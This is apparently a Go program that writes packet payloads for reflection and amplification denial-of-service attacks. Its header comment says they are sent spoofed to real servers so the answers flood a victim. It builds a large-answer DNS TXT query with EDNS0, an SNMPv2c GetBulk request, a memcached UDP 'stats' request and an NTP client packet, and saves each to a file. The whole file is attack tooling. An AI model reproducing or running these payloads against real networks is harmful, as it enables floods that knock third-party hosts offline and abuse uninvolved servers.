// Command payload writes the request payloads the corpus script sends,
// spoofed, to real servers so that their answers flood the victim: a DNS
// query for a large TXT set (EDNS, 4096-byte answers, fragmented on the
// way), an SNMP GetBulk, a memcached "stats" over UDP and an NTP client
// request.
package main

import (
	"fmt"
	"os"
	"path/filepath"

	"golang.org/x/net/dns/dnsmessage"
)

func main() {
	if len(os.Args) != 2 {
		fmt.Fprintln(os.Stderr, "usage: payload DIR")
		os.Exit(2)
	}
	dir := os.Args[1]
	files := map[string][]byte{
		"dns-txt.bin":         dnsQuery(),
		"snmp-getbulk.bin":    snmpGetBulk(),
		"memcached-stats.bin": append([]byte{0, 1, 0, 0, 0, 1, 0, 0}, "stats\r\n"...),
		"ntp-client.bin":      append([]byte{0x23}, make([]byte, 47)...), // LI 0, version 4, mode 3
	}
	for name, b := range files {
		if err := os.WriteFile(filepath.Join(dir, name), b, 0o644); err != nil {
			fmt.Fprintln(os.Stderr, err)
			os.Exit(1)
		}
	}
}

func dnsQuery() []byte {
	b := dnsmessage.NewBuilder(nil, dnsmessage.Header{ID: 0x5157, RecursionDesired: false})
	b.EnableCompression()
	must(b.StartQuestions())
	must(b.Question(dnsmessage.Question{Name: dnsmessage.MustNewName("big.corpus.test."), Type: dnsmessage.TypeTXT, Class: dnsmessage.ClassINET}))
	must(b.StartAdditionals())
	var rh dnsmessage.ResourceHeader
	must(rh.SetEDNS0(4096, dnsmessage.RCodeSuccess, false))
	must(b.OPTResource(rh, dnsmessage.OPTResource{}))
	out, err := b.Finish()
	must(err)
	return out
}

// snmpGetBulk is an SNMPv2c GetBulkRequest (community "public",
// max-repetitions 40) for the system and interfaces subtrees.
func snmpGetBulk() []byte {
	tlv := func(tag byte, body ...[]byte) []byte {
		var v []byte
		for _, b := range body {
			v = append(v, b...)
		}
		return append([]byte{tag, byte(len(v))}, v...)
	}
	oid := tlv(0x06, []byte{0x2b, 6, 1, 2, 1}) // 1.3.6.1.2.1
	varbind := tlv(0x30, oid, []byte{0x05, 0})
	pdu := tlv(0xa5, tlv(0x02, []byte{0x01}), tlv(0x02, []byte{0}), tlv(0x02, []byte{40}), tlv(0x30, varbind))
	return tlv(0x30, tlv(0x02, []byte{1}), tlv(0x04, []byte("public")), pdu)
}

func must(err error) {
	if err != nil {
		panic(err)
	}
}
